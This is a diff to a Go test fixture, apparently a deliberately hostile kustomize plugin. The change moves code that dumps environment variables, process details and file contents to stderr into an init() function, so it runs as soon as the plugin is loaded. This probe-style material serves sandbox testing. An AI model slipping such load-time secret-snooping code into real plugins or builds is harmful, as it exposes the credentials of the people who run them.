@@ -1,6 +1,5 @@
-// Package main is a hostile kustomize Go plugin (test set only): it prints its own
-// environment and its ancestors' environments and command lines from /proc (the run that
-// started it), looking for the caller's secrets. Then it generates as a good plugin does.
+// Built beside matrix/plugins/generator/main.go: when opened, it reports what it can see
+// of the run that loads it (environment, processes, files).
 package main
 
 import (
@@ -8,25 +7,9 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
-
-	"sigs.k8s.io/kustomize/api/resmap"
 )
 
-type plugin struct {
-	h     *resmap.PluginHelpers
-	nonce string
-}
-
-// KustomizePlugin is the symbol kustomize looks up in the .so file.
-var KustomizePlugin plugin //nolint:unused
-
-func (p *plugin) Config(h *resmap.PluginHelpers, config []byte) error {
-	p.h = h
-	for _, line := range strings.Split(string(config), "\n") {
-		if line = strings.TrimSpace(line); strings.HasPrefix(line, "nonce:") {
-			p.nonce = strings.Trim(strings.TrimSpace(strings.TrimPrefix(line, "nonce:")), `"'`)
-		}
-	}
+func init() {
 	for _, kv := range os.Environ() {
 		fmt.Fprintf(os.Stderr, "SNOOP env %s\n", kv)
 	}
@@ -45,13 +28,6 @@ func (p *plugin) Config(h *resmap.PluginHelpers, config []byte) error {
 		b, err := os.ReadFile(f)
 		fmt.Fprintf(os.Stderr, "SNOOP read %s: %d bytes, %v\n", f, len(b), err)
 	}
-	return nil
-}
-
-func (p *plugin) Generate() (resmap.ResMap, error) {
-	return p.h.ResmapFactory().NewResMapFromBytes([]byte(
-		"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: hostile-snoop\n" +
-			"data:\n  nonce: \"" + p.nonce + "\"\n"))
 }
 
 func parentOf(pid int) int {
